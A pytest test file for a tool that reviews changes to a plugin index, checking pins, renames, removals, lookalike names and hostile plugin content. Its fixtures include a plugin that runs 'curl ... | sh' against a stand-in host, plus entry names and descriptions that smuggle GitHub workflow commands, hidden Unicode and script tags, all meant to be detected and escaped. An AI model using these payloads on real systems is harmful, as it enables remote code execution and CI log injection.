"""Changes of an index judged as a workflow judges them: a clone of a real repository, plugins served by real git."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from index_changes import Proposals, check, entry, git, index, told, verdicts, written
from sample_plugins import native

if TYPE_CHECKING:
    from git_repositories import Repository
    from installed import Bench

MAIN = ("--base", "origin/main")
HOSTILE = b"""import os

os.system('curl -s https://x.example/i.sh | sh')


def register(ctx):
    pass
"""
HOSTILE_NAME = "evil\n::error::owned%0A::set-output name=x::y"


class Garden:
    """Plugins, each in a repository of its own, and entries for them."""

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.repositories: dict[str, Repository] = {}

    def plugin(self, name: str, *lines: str, owner: str = "ann", more: dict[str, bytes] | None = None) -> str:
        """Add a commit of a plugin; returns it."""
        where = f"{owner}/{name}.git"
        if where not in self.repositories:
            (self.bench.git.root / owner).mkdir(exist_ok=True)
            self.repositories[where] = self.bench.repository(where)
        return self.repositories[where].commit({**native(name, *lines), **(more or {})})

    def entry(self, name: str, ref: str, *, owner: str = "ann", repository: str = "", **more: Any) -> dict[str, Any]:
        return entry(name, self.bench.git.url(f"{owner}/{repository or name}.git"), ref, **more)

    def repository(self, name: str, owner: str = "ann") -> Repository:
        return self.repositories[f"{owner}/{name}.git"]


@pytest.fixture
def garden(bench: Bench) -> Garden:
    return Garden(bench)


def test_every_kind_of_change_at_once(bench: Bench, garden: Garden) -> None:
    old = {name: garden.plugin(name) for name in ("alarm", "bonsai", "cellar", "drawer", "engine", "fabric", "garlic")}
    new = {name: garden.plugin(name, "tags: [new]") for name in ("alarm", "bonsai", "cellar", "fabric")}
    asking = garden.plugin("drawer", "requires_env: [DRAWER_TOKEN]")
    side = garden.repository("engine").commit(
        native("engine", "tags: [side]"), onto="refs/heads/side", parent=old["engine"]
    )
    ahead = garden.plugin("engine", "tags: [ahead]")
    evil = garden.repository("fabric").commit(
        native("fabric", "tags: [evil]"), onto="refs/pull/7/head", parent=new["fabric"]
    )
    forged = garden.plugin("garlic", "tags: [mine]", owner="bob")
    lost = garden.plugin("hammer")
    garden.repository("hammer").git("update-ref", "-d", "refs/heads/main")
    rewritten = garden.plugin("hammer", "tags: [rewritten]")
    added, misnamed, broken = garden.plugin("ladder"), garden.plugin("mirror"), garden.plugin("nailed")
    bad = garden.plugin("orchid", more={"__init__.py": HOSTILE})
    base = index(
        garden.entry("alarm", old["alarm"]),
        garden.entry("bonsai", new["bonsai"]),
        garden.entry("cellar", old["cellar"]),
        garden.entry("drawer", old["drawer"]),
        garden.entry("engine", side),
        garden.entry("fabric", old["fabric"]),
        garden.entry("garlic", old["garlic"]),
        garden.entry("hammer", lost),
        garden.entry("kettle", "main", repository="alarm-2"),
        garden.entry("pepper", "1" * 40),
        garden.entry("quiver", "2" * 40),
    )
    head = index(
        garden.entry("alarm", new["alarm"], description="A plugin that rings, told anew."),
        garden.entry("bonsai", old["bonsai"]),
        garden.entry("cellar", new["cellar"]),
        garden.entry("drawer", asking),
        garden.entry("engine", ahead),
        garden.entry("fabric", evil),
        garden.entry("garlic", forged, owner="bob"),
        garden.entry("hammer", rewritten),
        garden.entry("kettle", "main", repository="alarm-2"),
        garden.entry("ladder", added),
        garden.entry("mirrors-2", misnamed, repository="mirror"),
        garden.entry("nailed", broken, subdir="nowhere"),
        garden.entry("orchid", bad),
        removed=[{"name": "pepper", "reason": "its author asked for it", "date": "2026-02-01"}],
    )
    clone = Proposals.of(bench, base).propose(head)

    run = check(clone, *MAIN, "--json")

    entries = {one["name"]: one for one in run.report["details"]["entries"]}
    assert run.code == 1, run.err
    assert {name: one["change"] for name, one in entries.items()} == {
        "alarm": ["bump", "metadata"],
        "bonsai": ["bump"],
        "cellar": ["bump"],
        "drawer": ["bump"],
        "engine": ["bump"],
        "fabric": ["bump"],
        "garlic": ["bump", "move"],
        "hammer": ["bump"],
        "ladder": ["add"],
        "mirrors-2": ["add"],
        "nailed": ["add"],
        "orchid": ["add"],
        "pepper": ["remove"],
        "quiver": ["remove"],
    }
    assert verdicts(run) == {
        "alarm": "warn",
        "bonsai": "fail",
        "cellar": "warn",
        "drawer": "warn",
        "engine": "fail",
        "fabric": "fail",
        "garlic": "warn",
        "hammer": "warn",
        "ladder": "warn",
        "mirrors-2": "fail",
        "nailed": "fail",
        "orchid": "fail",
        "pepper": "warn",
        "quiver": "fail",
    }
    assert told(run, "bonsai") == {"review-pin-rewound"}
    assert told(run, "drawer") == {"review-new-since-old-pin"}
    assert told(run, "engine") == {"review-pin-sideways"}
    assert "git-commit-not-on-branch" in told(run, "fabric")
    assert "review-entry-moved" in told(run, "garlic")
    assert "review-old-pin-gone" in told(run, "hammer")
    assert told(run, "mirrors-2") == {"review-name-differs"}
    assert told(run, "nailed") == {"git-subdir-missing"}
    assert "review-scan" in told(run, "orchid")
    assert told(run, "pepper") == {"review-entry-removed"}
    assert told(run, "quiver") == {"review-entry-removed", "review-removal-unexplained"}
    # Whose the plugins are nobody was asked: that is for the keepers, and all that is to be said of these.
    for name in ("alarm", "cellar", "ladder"):
        assert told(run, name) == set()
        assert [one.partition(":")[0] for one in entries[name]["why_keeper"]] == [f"entry `{name}`"]
    needing = {name for name, one in entries.items() if one["needs_keeper"]}
    assert needing >= {"drawer", "garlic", "hammer", "pepper"}
    assert entries["drawer"]["plugin"]["news"]["new"] == {"env": ["DRAWER_TOKEN"]}
    # What was broken before is told, and decides nothing.
    beside = [one for one in run.report["findings"] if "`kettle`" in one["message"]]
    assert [(one["rule"], one["severity"]) for one in beside] == [("index-entry-ref", "note")]
    assert beside[0]["message"].endswith("(not part of this change)")
    # Each finding stands at the line it is about.
    lines = (clone / "index.json").read_text(encoding="utf-8").splitlines()
    for one in run.report["findings"]:
        if one["rule"] == "review-pin-rewound":
            assert old["bonsai"] in lines[one["line"] - 1]


def test_what_is_wrong_with_the_texts_of_entries_is_told_without_repeating_it(bench: Bench) -> None:
    pin = "1" * 40
    base = index(entry("relay-tools", "acme/relay-tools", pin), entry("zebra", "acme/zebra", pin))
    head = index(
        entry("relay-tools", "acme/relay-tools", pin),
        entry("relay-tool", "mallory/relay-tools", pin),
        entry("re1ay-tools", "mallory/relay", pin),
        entry("hidden", "acme/hidden", pin, description="Reads notes.\u202e\u2066 Trust it.\U000e0041"),
        entry(HOSTILE_NAME, "acme/evil", pin),
        entry("markup", "acme/markup", pin, description="![x](https://x.example/a.png) <script>a()</script> @octocat"),
        entry("percent%0A::error::x", "acme/percent", pin, description="::error::owned by this very text, really"),
        entry("ZEBRA", "acme/elsewhere", pin),
        entry("copycat", "acme/zebra", pin),
        entry("unpinned", "acme/unpinned", "v1.0"),
        entry("typo", "acme/typo", pin, tag=["x"]),
        entry("zebra", "acme/zebra", pin),
    )
    clone = Proposals.of(bench, base).propose(head)
    files = {name: clone / f"out.{name}" for name in ("json", "github", "markdown", "sarif", "text")}

    run = check(clone, *MAIN, "--no-deep", *(word for name, file in files.items() for word in ("-o", f"{name}={file}")))

    assert run.code == 1, run.err
    report = json.loads(files["json"].read_text(encoding="utf-8"))
    found: dict[str, set[str]] = {
        one["name"]: {finding["rule"] for finding in one["findings"] if finding["severity"] != "note"}
        for one in report["details"]["entries"]
    }
    assert found["relay-tool"] == {"review-name-alike"}
    assert found["re1ay-tools"] == {"review-name-twin"}
    assert found["hidden"] == {"review-text-hidden"}
    assert found["markup"] == {"review-text-markup"}
    assert "review-text-markup" in found["percent%0A::error::x"]
    assert found["ZEBRA"] == {"index-entry-twice"}
    assert found["copycat"] == {"index-place-twice"}
    assert found["unpinned"] == {"index-entry-ref"}
    assert found["typo"] == {"index-unknown-key"}
    # The new line makes the name unusable, and it is shown as an escape.
    assert any({"index-entry-name", "review-text-hidden"} <= rules for rules in found.values())
    assert "zebra" not in found
    for name in ("github", "markdown", "text"):
        text = files[name].read_text(encoding="utf-8")
        assert "\u202e" not in text
        assert "\U000e0041" not in text
        assert not [line for line in text.splitlines() if line.startswith("::error::") or "::set-output" in line[:12]]
    markdown = files["markdown"].read_text(encoding="utf-8")
    assert markdown.startswith("<!-- packtool index check -->\n")
    assert markdown.count("<!--") == 1
    for line in files["github"].read_text(encoding="utf-8").splitlines():
        assert line.split(" ", 1)[0] in {"::error", "::warning", "::notice"}
    for one in json.loads(files["sarif"].read_text(encoding="utf-8"))["runs"][0]["results"]:
        place = one["locations"][0]["physicalLocation"]
        assert place["artifactLocation"]["uri"] == "index.json"
        assert place["region"]["startLine"] >= 1


def test_order_and_form_are_no_change(bench: Bench) -> None:
    one, two = entry("alarm", "acme/alarm", "1" * 40), entry("bonsai", "acme/bonsai", "2" * 40)
    proposals = Proposals.of(bench, index(one, two))
    shuffled = index() | {"plugins": [dict(reversed(two.items())), one]}
    clone = proposals.propose(json.dumps(shuffled).encode())

    run = check(clone, *MAIN, "--json")

    assert run.code == 0, run.err
    assert run.report["verdict"] == "warn"
    assert run.rules == ["index-order"]
    assert run.report["details"]["format_only"] is True
    assert [(one["name"], one["change"], one["verdict"]) for one in run.report["details"]["entries"]] == [
        ("bonsai", ["format"], "pass")
    ]
    assert bench.git.requests == []


def test_an_outage_in_the_middle_judges_the_others(bench: Bench, garden: Garden) -> None:
    good, bad = garden.plugin("alarm"), garden.plugin("bonsai")
    proposals = Proposals.of(bench, index())
    away = entry("cellar", "http://127.0.0.1:9/cellar.git", "1" * 40)
    clone = proposals.propose(index(garden.entry("alarm", good), garden.entry("other", bad, repository="bonsai"), away))

    run = check(clone, *MAIN, "--json")

    assert run.code == 2, run.err
    assert run.report["verdict"] is None
    assert verdicts(run) == {"alarm": "warn", "other": "fail", "cellar": None}
    assert [one["subject"] for one in run.report["details"]["unseen"]] == ["http://127.0.0.1:9/cellar.git@111111111111"]
    assert "not judged" in check(clone, *MAIN, "--no-cache").out


def test_thirty_entries_of_one_repository_are_one_fetch(bench: Bench) -> None:
    names = [f"plugin-{first}{second}" for first in "abcdef" for second in "abcde"]
    mono = bench.repository("mono.git")
    commit = mono.commit({f"{name}/{path}": data for name in names for path, data in native(name).items()})
    entries = [entry(name, bench.git.url("mono.git"), commit, subdir=name) for name in names]
    still = [entry(f"still-{number:03}", f"acme/still-{number:03}", "1" * 40) for number in range(200)]
    proposals = Proposals.of(bench, index(*still))
    counts = []
    for some in (entries[:1], entries):
        clone = proposals.propose(index(*still, *some))
        bench.git.requests.clear()
        run = check(clone, *MAIN, "--json")
        assert run.code == 0, run.err + run.out
        assert set(verdicts(run).values()) == {"warn"}
        assert set(run.rules) == {"review-owner-not-checked"}
        assert len(verdicts(run)) == len(some)
        counts.append(len(bench.git.requests))
    assert counts[0] == counts[1]


def test_the_base_is_where_the_change_began(bench: Bench) -> None:
    one, two, three = (entry(name, f"acme/{name}", "1" * 40) for name in ("alarm", "bonsai", "cellar"))
    proposals = Proposals.of(bench, index(one))
    proposals.propose(index(one, two))
    # Meanwhile somebody else's entry goes into main: it is no removal of this change.
    proposals.repository.commit({"index.json": written(index(one, three))})
    clone = bench.folder / "late"
    git("clone", "-q", str(proposals.repository.path), str(clone))
    git("-C", str(clone), "checkout", "-q", "--detach", "origin/change-0")

    run = check(clone, *MAIN, "--json", "--no-deep")

    assert {one["name"]: one["change"] for one in run.report["details"]["entries"]} == {"bonsai": ["add"]}
    # A branch of the clone's origin can be named without it, and a file outside of the working folder.
    assert check(bench.folder, "--base", "main", "--no-deep", "late/index.json").code == 0


def test_a_clone_with_too_little_in_it_says_what_to_fetch(bench: Bench) -> None:
    one, two = entry("alarm", "acme/alarm", "1" * 40), entry("bonsai", "acme/bonsai", "1" * 40)
    proposals = Proposals.of(bench, index(one))
    proposals.propose(index(one, two))
    proposals.repository.commit({"index.json": written(index(one)), "README.md": b"more\n"})
    address = f"file://{proposals.repository.path}"
    clone = bench.folder / "shallow"
    git("clone", "-q", "--depth=1", "--branch", "change-0", address, str(clone))

    lacking = check(clone, *MAIN, "--no-deep")
    assert lacking.code == 2
    command = "git fetch origin +refs/heads/main:refs/remotes/origin/main"
    assert command in lacking.err.replace("'", "")
    git("-C", str(clone), *command.split()[1:], "--depth=1")

    shallow = check(clone, *MAIN, "--no-deep")
    assert shallow.code == 2
    assert "git fetch --deepen=100 origin main" in shallow.err
    git("-C", str(clone), "fetch", "-q", "--deepen=100", "origin", "main")
    # Deepening goes on from what is checked out, too.
    assert check(clone, *MAIN, "--no-deep", "--json").report["details"]["changed"] == 1


def test_a_change_of_more_than_the_index_can_be_refused(bench: Bench) -> None:
    one = entry("alarm", "acme/alarm", "1" * 40)
    proposals = Proposals.of(bench, index())
    clone = proposals.propose(index(one), more={".github/workflows/check.yml": b"on: push\n"})

    run = check(clone, *MAIN, "--no-deep", "--alone", "--json")

    assert run.code == 1
    assert run.rules == ["review-not-alone"]
    assert ".github/workflows/check.yml" in run.report["findings"][0]["message"]


def test_an_index_that_is_a_link_is_not_followed(bench: Bench) -> None:
    (bench.folder / "elsewhere").write_text("{}", encoding="utf-8")
    (bench.folder / "index.json").symlink_to("elsewhere")
    run = check(bench.folder)
    assert run.code == 2
    assert "is a link" in run.err


def test_a_partial_clone_is_not_filled_up_behind_the_users_back(bench: Bench) -> None:
    one = entry("alarm", "acme/alarm", "1" * 40)
    proposals = Proposals.of(bench, index(one))
    proposals.propose(index(one, entry("bonsai", "acme/bonsai", "1" * 40)))
    clone = bench.folder / "partial"
    address = f"file://{proposals.repository.path}"
    git("clone", "-q", "--filter=blob:none", "--branch", "change-0", address, str(clone))

    lacking = check(clone, *MAIN, "--no-deep")

    assert lacking.code == 2
    command = next(line for line in lacking.err.splitlines() if "git show" in line)
    git("-C", str(clone), "show", command.split("git show ")[1].split(" (")[0])
    assert check(clone, *MAIN, "--no-deep").code == 0


def test_the_whole_index_is_looked_at_when_that_is_asked_for(bench: Bench, garden: Garden) -> None:
    good, _ = garden.plugin("alarm"), garden.plugin("bonsai")
    entries = garden.entry("alarm", good), garden.entry("bonsai", "1" * 40)
    (bench.folder / "index.json").write_bytes(written(index(*entries)))
    assert check(bench.folder, "--json").report["details"]["entries"] == []
    assert bench.git.requests == []

    run = check(bench.folder, "--deep", "--json", "--min-age", "3650")

    assert verdicts(run) == {"alarm": "warn", "bonsai": "fail"}
    assert told(run, "alarm") == {"review-pin-young"}
    assert "git-commit-missing" in told(run, "bonsai")
